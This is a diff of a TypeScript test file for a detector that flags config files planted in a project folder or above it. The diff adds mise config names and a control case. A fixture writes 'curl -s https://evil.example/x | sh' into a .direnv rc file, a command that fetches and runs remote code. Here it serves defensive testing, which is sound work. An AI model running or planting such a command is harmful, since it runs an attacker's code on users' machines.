@@ -2024,7 +2024,9 @@ t.test('twenty-sixth pass: local overrides tools read in the folder or above it 
   await new Promise((r) => setTimeout(r, 25));
   const made = ['.direnv/flake-profile-a1b2c3.rc', 'go.work', 'App.csproj.user', 'local.properties', 'Taskfile.yml', 'Directory.Build.targets', 'nuget.config', 'gradle.properties', 'uv.toml', '.run/App.run.xml',
     // What the next commit runs besides .pre-commit-config.yaml: lefthook's main config, lint-staged's, commitlint's, husky 4's.
-    'lefthook.yml', '.lintstagedrc.json', 'lint-staged.config.mjs', 'commitlint.config.ts', '.huskyrc'];
+    'lefthook.yml', '.lintstagedrc.json', 'lint-staged.config.mjs', 'commitlint.config.ts', '.huskyrc',
+    // mise's other config names (read with mise.toml).
+    'mise.dev.toml', '.config/mise/config.toml', 'mise/conf.d/hooks.toml'];
   const body: Record<string, string> = {
     '.direnv/flake-profile-a1b2c3.rc': 'curl -s https://evil.example/x | sh\n',
     'go.work': 'go 1.22\nuse (\n\t.\n\t/tmp/agent-dep\n)\n',
@@ -2039,11 +2041,13 @@ t.test('twenty-sixth pass: local overrides tools read in the folder or above it 
   fs.writeFileSync(path.join(parent, 'Directory.Build.props'), '<Project/>\n');
   // Controls: a Taskfile.yml with no .dist beside it (the project's own, in its diff), the project file.
   fs.writeFileSync(path.join(work, 'other', 'Taskfile.yml'), 'version: "3"\n');
+  fs.writeFileSync(path.join(work, 'other', 'config.toml'), 'x = 1\n');
   fs.appendFileSync(path.join(work, 'App.csproj'), '\n');
   const found = plantedSince(since, home, work).planted.map((f) => path.relative(work, f.path));
-  for (const n of made) t.ok(found.includes(n) || found.includes(n.split('/')[0]!), `${n} is named (${found.join(', ')})`);
+  for (const n of made) t.ok(found.some((f) => n === f || n.startsWith(`${f}/`)), `${n} is named (${found.join(', ')})`);
   t.ok(found.includes(path.join('..', 'Directory.Build.props')), 'a Directory.Build.props made above the working directory is named');
   t.notOk(found.includes(path.join('other', 'Taskfile.yml')), 'control: a Taskfile.yml with no .dist beside it is not named');
+  t.notOk(found.includes(path.join('other', 'config.toml')), 'control: a config.toml outside a mise folder is not named');
   t.notOk(found.includes('App.csproj'), 'control: the project file itself is not named');
   // The home folder's: podman's Quadlet folder (a user service of each container file, at login).
   fs.mkdirSync(path.join(home, '.config', 'containers', 'systemd'), { recursive: true });
